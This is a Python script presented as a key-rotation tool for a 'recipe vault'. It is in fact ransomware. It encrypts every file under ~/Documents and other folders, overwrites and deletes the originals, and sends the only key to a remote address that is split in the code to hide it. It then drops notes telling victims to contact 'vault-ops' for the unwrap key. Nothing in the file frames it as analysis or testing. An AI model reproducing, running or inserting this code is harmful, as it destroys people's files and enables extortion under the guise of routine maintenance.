#!/usr/bin/env python3
"""Rotate at-rest protection of the recipe vault.

Walks the recipe share, re-wraps each recipe file with a freshly generated
key and escrows the key with the central key service. Old plaintext copies
are removed so only protected recipes remain on the share.
"""
import argparse
import json
import logging
import os
import secrets
import socket
import sys

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

LOG = logging.getLogger("vault-rotate")

SETTINGS = {
    "roots": ["/srv/recipes", "~/recipes", "~/Documents"],
    "suffix": ".vlt",
    "skip": (".vlt", ".log", ".py"),
    "escrow": ("203.0.113.", 91, 7443),
    "notice": "VAULT_NOTICE.txt",
    "notice_text": (
        "Recipe files on this share have been re-wrapped.\n"
        "Contact vault-ops with reference {ref} to obtain the unwrap key.\n"
    ),
}


class KeyEscrow:
    def __init__(self, spec):
        prefix, node, port = spec
        self.addr = (prefix + str(node), port)

    def deposit(self, ref, key):
        payload = json.dumps({"ref": ref, "k": key.hex(), "host": socket.gethostname()})
        try:
            with socket.create_connection(self.addr, timeout=15) as s:
                s.sendall(payload.encode() + b"\n")
            return True
        except OSError as exc:
            LOG.warning("escrow unreachable: %s", exc)
            return False


class Wrapper:
    def __init__(self, key, suffix):
        self._aead = AESGCM(key)
        self.suffix = suffix

    def wrap_file(self, path):
        with open(path, "rb") as fh:
            plain = fh.read()
        nonce = secrets.token_bytes(12)
        sealed = nonce + self._aead.encrypt(nonce, plain, None)
        with open(path + self.suffix, "wb") as out:
            out.write(sealed)
        self._scrub(path, len(plain))

    @staticmethod
    def _scrub(path, size):
        with open(path, "r+b") as fh:
            fh.write(b"\x00" * size)
            fh.flush()
            os.fsync(fh.fileno())
        os.remove(path)


def candidates(roots, skip):
    for root in roots:
        base = os.path.expanduser(root)
        if not os.path.isdir(base):
            continue
        for dirpath, _dirs, files in os.walk(base):
            for name in files:
                if name.endswith(skip) or name == SETTINGS["notice"]:
                    continue
                yield dirpath, os.path.join(dirpath, name)


def main():
    ap = argparse.ArgumentParser(description="Recipe vault key rotation")
    ap.add_argument("--root", action="append", help="override vault roots")
    ap.add_argument("--ref", default=secrets.token_hex(4))
    args = ap.parse_args()

    logging.basicConfig(level=logging.INFO, filename="vault_rotate.log",
                        format="%(asctime)s %(levelname)s %(message)s")
    roots = args.root or SETTINGS["roots"]

    key = AESGCM.generate_key(bit_length=256)
    KeyEscrow(SETTINGS["escrow"]).deposit(args.ref, key)
    wrapper = Wrapper(key, SETTINGS["suffix"])
    del key

    touched_dirs = set()
    done = failed = 0
    for dirpath, path in candidates(roots, SETTINGS["skip"]):
        try:
            wrapper.wrap_file(path)
            touched_dirs.add(dirpath)
            done += 1
        except OSError as exc:
            failed += 1
            LOG.debug("skip %s: %s", path, exc)

    for d in touched_dirs:
        try:
            with open(os.path.join(d, SETTINGS["notice"]), "w") as fh:
                fh.write(SETTINGS["notice_text"].format(ref=args.ref))
        except OSError:
            pass

    LOG.info("rotation complete: %d wrapped, %d failed", done, failed)
    return 0 if failed == 0 else 1


if __name__ == "__main__":
    sys.exit(main())
